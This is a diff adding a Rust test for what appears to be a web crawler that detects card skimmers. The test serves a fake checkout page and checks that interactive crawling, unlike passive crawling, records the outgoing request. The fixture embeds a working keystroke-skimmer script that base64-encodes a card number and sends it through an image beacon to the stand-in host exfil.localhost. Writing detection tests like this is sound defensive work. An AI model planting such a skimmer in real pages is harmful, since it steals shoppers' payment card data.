@@ -254,3 +254,57 @@ fn loopback_only_crawls_record_the_attempt_to_reach_another_host_but_never_load_
     );
     assert_eq!(c.scripts.len(), 1, "the inline script only");
 }
+
+#[test]
+fn typing_test_card_data_makes_a_keystroke_skimmer_show_its_exfiltration() {
+    let shop = Shop::start();
+    let port = shop.port;
+    shop.put_html(
+        "/checkout",
+        &[],
+        r#"<form><input name="cc_number" aria-label="Card number"><input name="email"></form>
+<script>
+document.querySelector('input[name=cc_number]').addEventListener('blur', function (e) {
+  if (e.target.value.length >= 15) { new Image().src = 'http://exfil.localhost:PORT/k.gif?v=' + btoa(e.target.value); }
+});
+</script>"#
+            .replace("PORT", &port.to_string())
+            .as_str(),
+    );
+    let rt = rt();
+    let url = shop.url("/checkout");
+    let looked = rt
+        .block_on(crawl(
+            &Browser {
+                interact: false,
+                ..Browser::default()
+            },
+            &CrawlRequest {
+                url: url.clone(),
+                cookies: vec![],
+            },
+        ))
+        .unwrap();
+    assert!(
+        !looked
+            .connections
+            .iter()
+            .any(|h| h.host == "exfil.localhost"),
+        "only looking, the skimmer stays quiet"
+    );
+    let typed = rt
+        .block_on(crawl(
+            &Browser::default(),
+            &CrawlRequest {
+                url,
+                cookies: vec![],
+            },
+        ))
+        .unwrap();
+    let exfil = typed
+        .connections
+        .iter()
+        .find(|h| h.host == "exfil.localhost")
+        .expect("typing the test card into the field made it send");
+    assert_eq!(exfil.kind, ConnectionKind::Image);
+}
